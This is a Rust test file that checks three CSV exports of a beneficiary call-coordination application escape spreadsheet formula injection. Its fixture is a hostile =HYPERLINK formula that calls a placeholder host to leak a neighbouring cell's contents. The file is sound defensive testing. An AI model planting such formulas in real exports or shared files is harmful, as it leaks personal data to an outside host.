//! The privacy defences of issue 14: CSV cells that a spreadsheet would run as formulas,
//! the `next` of the login form, the login throttling key, `Cache-Control: no-store`.

use lien::domain::Role;

use crate::cli::{lien, run};
use crate::helpers::{execute, Backend};
use crate::on_both_backends;

on_both_backends!(
    rejected_rows_csv_neutralises_formulas,
    not_reached_csv_neutralises_formulas,
    assignments_csv_neutralises_formulas,
);

/// A name that Excel would turn into a live link leaking the neighbouring cell.
const FORMULA: &str = "=HYPERLINK(\"http://x/?\"&D2,\"Dupont\")";

fn records(text: &str) -> Vec<csv::StringRecord> {
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap())
        .collect()
}

async fn rejected_rows_csv_neutralises_formulas(backend: Backend) {
    use crate::import_pages::{decide, demo, upload};
    let app = crate::helpers::spawn_app(backend).await;
    app.login_as(Role::Coordinator).await;
    let mut file = demo("beneficiaries.csv");
    // No phone: the row is refused, and its raw cells go to the rejected-rows CSV.
    let quoted = FORMULA.replace('"', "\"\"");
    file.extend_from_slice(
        format!("80-0009999;\"{quoted}\";@Numero;;;1 rue X;80000;Amiens;01/01/1940;APA;fr;;;\n")
            .as_bytes(),
    );
    let preview = upload(&app, "beneficiaries", "beneficiaires.csv", file).await;
    let html = preview.text().await.unwrap();
    let confirmed = decide(&app, &html, "confirm").await;
    assert_eq!(confirmed.status(), 303);
    let location = confirmed.headers()["location"]
        .to_str()
        .unwrap()
        .to_string();
    let csv = app.get(&format!("{location}/rejected.csv")).await;
    assert_eq!(csv.status(), 200);
    let rows = records(&csv.text().await.unwrap());
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(&rows[0][2], format!("'{FORMULA}"));
    assert_eq!(&rows[0][3], "'@Numero");
    assert_eq!(&rows[0][1], "80-0009999");
}

async fn not_reached_csv_neutralises_formulas(backend: Backend) {
    let (app, week, _) = crate::report::called_app(backend).await;
    let sql = format!(
        "UPDATE beneficiaries SET last_name = '{FORMULA}', first_name = '-Jean', \
         commune = '+Amiens'"
    );
    execute(&app.store, &sql).await.unwrap();
    app.login_as(Role::Coordinator).await;
    let response = app
        .get(&format!(
            "/coordination/week/not-reached.csv?week={}",
            week.previous()
        ))
        .await;
    assert_eq!(response.status(), 200);
    let rows = records(&response.text().await.unwrap());
    assert!(!rows.is_empty());
    for r in &rows {
        assert_eq!(&r[1], format!("'{FORMULA}"));
        assert_eq!(&r[2], "'-Jean");
        assert_eq!(&r[6], "'+Amiens");
        assert!(r[3].starts_with('+'), "phones stay numbers: {r:?}");
    }
}

async fn assignments_csv_neutralises_formulas(backend: Backend) {
    use lien::domain::IsoWeek;
    use lien::store::PlanMode;
    let (t, campaign) = crate::planning::demo_store(backend).await;
    let sql = format!("UPDATE beneficiaries SET external_ref = '{FORMULA}' || external_ref");
    execute(&t.store, &sql).await.unwrap();
    let week = IsoWeek::parse("2026-W48").unwrap();
    t.store
        .plan_week(&campaign, week, PlanMode::Plan, false)
        .await
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let out = run(lien(dir.path()).env("DATABASE_URL", &t.db.url).args([
        "assignments",
        "--week",
        "2026-W48",
        "--csv",
    ]));
    assert!(out.status.success());
    let rows = records(&String::from_utf8(out.stdout).unwrap());
    assert!(!rows.is_empty());
    for r in &rows {
        assert!(r[0].starts_with(&format!("'{FORMULA}")), "{r:?}");
    }
}
